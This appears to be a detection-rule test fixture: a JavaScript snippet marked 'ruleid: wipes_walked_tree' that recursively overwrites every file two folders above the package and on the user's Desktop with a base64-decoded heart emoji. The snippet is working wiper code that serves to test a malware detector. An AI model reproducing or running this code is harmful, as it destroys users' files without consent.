// Every file under the folders above the package and the Desktop overwritten with a decoded constant.
const fs = require('fs');
const path = require('path');
const os = require('os');
const b = (s) => Buffer.from(s, 'base64').toString('utf8');
const mark = b('4p2k77iP');
function sweep(dir) {
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    if (fs.lstatSync(p).isDirectory()) { sweep(p); continue; }
    // ruleid: wipes_walked_tree
    fs.writeFileSync(p, mark);
  }
}
['../../', path.join(os.homedir(), 'Desktop')].forEach((d) => sweep(path.resolve(d)));
